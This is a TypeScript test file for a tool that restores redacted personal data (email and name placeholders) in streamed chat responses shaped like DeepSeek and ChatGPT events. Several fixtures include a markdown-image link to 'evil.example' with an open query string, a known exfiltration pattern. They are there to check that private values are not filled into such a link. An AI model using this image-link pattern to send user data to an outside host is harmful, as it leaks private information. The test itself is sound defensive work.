import { describe, expect, it } from 'vitest';
import { StreamRestorer } from '../../../core/stream/stream-restorer.ts';
import { type Event, eventsOf, restoreStream, tokenMap } from './wire-fixtures.ts';

const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });

/** The events as a client receives them, and the document that it builds from them. */
function received(events: readonly unknown[], head = ''): { events: Event[]; document: Event } {
  const output = restored(events, head);
  const root: Event = { document: {} };
  let path = '';
  let operation = 'set';
  for (const { p = path, o = operation, v } of output) {
    path = p;
    operation = o;
    apply(root, p, o, v);
  }
  return { events: output, document: root.document };
}

function restored(events: readonly unknown[], head = ''): Event[] {
  const lines = head + events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('');
  return eventsOf('sse', restoreStream('sse', map, new TextEncoder().encode(lines))).filter(
    (event) => typeof event === 'object',
  );
}

function apply(root: Event, path: string, operation: string, value: Event): void {
  if (/^(?:batch|patch)$/i.test(operation)) {
    for (const { p, o = 'set', v } of value) apply(root, [path, p].filter(Boolean).join('/'), o, v);
    return;
  }
  const steps = ['document', ...path.split('/').filter(Boolean)];
  const last = steps.pop() as string;
  const at = (target: Event, step: string) => (step === '-1' ? target.length - 1 : step);
  const target = steps.reduce((found, step) => found[at(found, step)], root);
  const name = at(target, last);
  const old = target[name];
  if (/^append$/i.test(operation)) {
    target[name] = Array.isArray(old) ? [...old, ...value] : (old ?? '') + value;
  } else {
    target[name] = operation === 'truncate' ? old.slice(0, value) : value;
  }
}

const finished = { p: 'response/status', o: 'SET', v: 'FINISHED' };
const deepSeek = (...fragments: object[]) => ({ v: { response: { message_id: 2, status: 'WIP', fragments } } });
const fragment = (content: string, type = 'RESPONSE') => ({ id: 1, type, content });
const inserted = (content: string) => ({ p: 'response/fragments', o: 'APPEND', v: [fragment(content)] });
const more = (v: string, o?: 'APPEND') => ({ p: 'response/fragments/-1/content', ...(o && { o }), v });
const evil = '![x](https://evil.example/?q=';

describe('chat.deepseek.com', () => {
  const pending = { v: false, p: 'has_pending_fragment' };
  const inBatch = { v: [fragment('[EM')], p: 'fragments', o: 'APPEND' };
  const rows: [name: string, events: unknown[], texts: string[]][] = [
    [
      'a token begins in the first fragment of the document',
      [deepSeek(fragment('to [EM')), more('AIL-1]', 'APPEND'), { v: '.' }, finished],
      ['to a@b.example.'],
    ],
    [
      'a token begins in an inserted fragment',
      [deepSeek(), inserted('[EM'), more('AIL-1]'), { v: '.' }, finished],
      ['a@b.example.'],
    ],
    [
      'in a batch, and the fragment continues at its position',
      [
        deepSeek(),
        { v: [pending, inBatch], p: 'response', o: 'BATCH' },
        { v: 'AIL-1]', p: 'response/fragments/0/content', o: 'APPEND' },
        { v: '.' },
        { p: 'response', o: 'BATCH', v: [{ p: 'status', v: 'FINISHED' }] },
      ],
      ['a@b.example.'],
    ],
    [
      'a fragment that ends in the middle keeps its end',
      [deepSeek(fragment('I [EM', 'THINK')), inserted('[NA'), more('ME-1]'), finished],
      ['I [EM', 'O"Hara'],
    ],
    ['the answer ends in the middle', [deepSeek(fragment('to [EM')), finished], ['to [EM']],
    [
      'tokens after a link that began in the document are not restored',
      [deepSeek(fragment(evil)), more('[EMAIL-1])', 'APPEND'), finished],
      [`${evil}[EMAIL-1])`],
    ],
  ];
  it.each(rows)('%s', (_name, events, texts) => {
    const { document } = received(events);
    expect(document.response.fragments.map(({ content }: Event) => content)).toEqual(texts);
  });

  it('inserted events are spelled as the service spells them', () => {
    const { events } = received([deepSeek(fragment('')), more('x [EM'), finished]);
    expect(events.slice(1)).toEqual([more('x '), more('[EM', 'APPEND'), finished]);
  });

  it('a stream that begins after its document', () => {
    const events = restored([inserted('to [EM'), more('AIL-1]')]);
    expect(events.map(({ v }) => v)).toEqual([[fragment('to ')], 'a@b.example']);
  });

  it('the older form without fragments', () => {
    const { document } = received([
      { v: { response: { message_id: 2, thinking_content: '[NA', content: '' } } },
      { p: 'response/thinking_content', o: 'APPEND', v: 'ME-1]' },
      { p: 'response/content', v: '[EM' },
      { v: 'AIL-1]' },
      finished,
    ]);
    expect(document.response).toMatchObject({ thinking_content: 'O"Hara', content: 'a@b.example' });
  });
});

describe('chatgpt.com', () => {
  const head = 'event: delta_encoding\ndata: "v1"\n\n';
  const place = '/message/content/parts/0';
  const message = (text: string, status = 'in_progress') => ({
    p: '',
    o: 'add',
    v: { message: { id: 'm', content: { content_type: 'text', parts: [text] }, status } },
    c: 0,
  });
  const at = (o: string, v: string | number) => ({ p: place, o, v });
  const next = (v: string) => ({ o: 'append', v });
  const link = 'https://evil.example/';
  const rows: [name: string, events: unknown[], text: string][] = [
    ['a token begins in the message', [message('to [EM'), at('append', 'AIL-1]'), { v: '.' }], 'to a@b.example.'],
    [
      'tokens after a link that began in the message are not restored',
      [message(evil), at('append', '[EMAIL-1])')],
      `${evil}[EMAIL-1])`,
    ],
    ['replacing a text ends it', [message(''), at('append', 'a [EM'), at('replace', 'b '), next('c')], 'b c'],
    [
      'a token begins in a replacement of a text',
      [message('x'), at('replace', 'to [EM'), next('AIL-1]')],
      'to a@b.example',
    ],
    ['a link in a replacement of a text', [message('x'), at('replace', link), next('[EMAIL-1]')], `${link}[EMAIL-1]`],
    ['a link that was replaced', [message(link), at('replace', 'to '), next('[EMAIL-1]')], 'to a@b.example'],
    ['a complete message keeps its end', [message('to [EM', 'finished_successfully')], 'to [EM'],
    [
      'a text is truncated after a restored value',
      [message('[EMAIL-1], dear Sir'), at('truncate', 16), next('[NAME-1]')],
      'a@b.example, dear O"Hara',
    ],
    [
      'a text is truncated inside a restored value',
      [message('to [EMAIL-1] x'), at('truncate', 6), next('AIL-1] y')],
      'to a@b.example y',
    ],
    ['a text is truncated while its end is held back', [message('ab [EM'), at('truncate', 2), next('c')], 'abc'],
    [
      'a link remains after the truncation',
      [message(`see ${link} now`), at('truncate', 25), next('[EMAIL-1]')],
      `see ${link}[EMAIL-1]`,
    ],
  ];
  it.each(rows)('%s', (_name, events, text) => {
    const end = { p: '', o: 'patch', v: [{ p: '/message/status', o: 'replace', v: 'finished_successfully' }] };
    expect(received([...events, end], head).document.message.content.parts).toEqual([text]);
  });

  it('inserted thoughts continue at their position', () => {
    const thought = (content: string) => [{ summary: 's', content, finished: false }];
    const { document } = received(
      [
        { p: '', o: 'add', v: { message: { content: { thoughts: [] }, status: 'in_progress' } } },
        { p: '/message/content/thoughts', o: 'append', v: thought('a [EM') },
        { p: '/message/content/thoughts/0/content', v: 'AIL-1]' },
        { p: '/message/content/thoughts', v: thought('b [NA') },
        { p: '/message/content/thoughts/1/content', v: 'ME-1]' },
      ],
      head,
    );
    expect(document.message.content.thoughts.map(({ content }: Event) => content)).toEqual([
      'a a@b.example',
      'b O"Hara',
    ]);
  });

  it('text released by a silence leaves path and operation unchanged', () => {
    const restorer = new StreamRestorer({ kind: 'sse', map });
    const data = (event: object) => new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`);
    const next = { v: { message: { content: { parts: ['x'] } } }, c: 1 };
    restorer.push(data(message('to [EM')));
    const output = [restorer.flushHeld(), restorer.push(data(next)), restorer.push(data(next))];
    expect(eventsOf('sse', Buffer.concat(output).toString())).toEqual([
      { p: place, o: 'append', v: '[EM' },
      { p: '', o: 'add', ...next },
      next,
    ]);
  });

  it('other events of the stream are inserted unchanged', () => {
    const events = restored([{ type: 'x', text: 'to [EM' }], head);
    expect(events).toEqual([
      { type: 'x', text: 'to ' },
      { type: 'x', text: '[EM' },
    ]);
  });
});

it('the user message that comes first does not move citations of the answer', () => {
  const message = (role: string, text: string, status: string) => ({
    message: { author: { role }, content: { content_type: 'text', parts: [text] }, status },
  });
  const events = [
    { p: '', o: 'add', v: message('user', 'I am [NAME-1]', 'finished_successfully'), c: 0 },
    { p: '', o: 'add', v: message('assistant', '', 'in_progress'), c: 1 },
    { p: '/message/content/parts/0', o: 'append', v: 'Hello, see this' },
    { p: '/message/metadata/content_references/0', o: 'add', v: { start_idx: 7, end_idx: 10 } },
  ];
  const bytes = new TextEncoder().encode(
    `event: delta_encoding\ndata: "v1"\n\n${events.map((event) => `event: delta\ndata: ${JSON.stringify(event)}\n\n`).join('')}`,
  );
  const out = restoreStream('sse', map, bytes);
  expect(out).toContain('"start_idx":7,"end_idx":10');
  expect(out).toContain('Hello, see this');
});
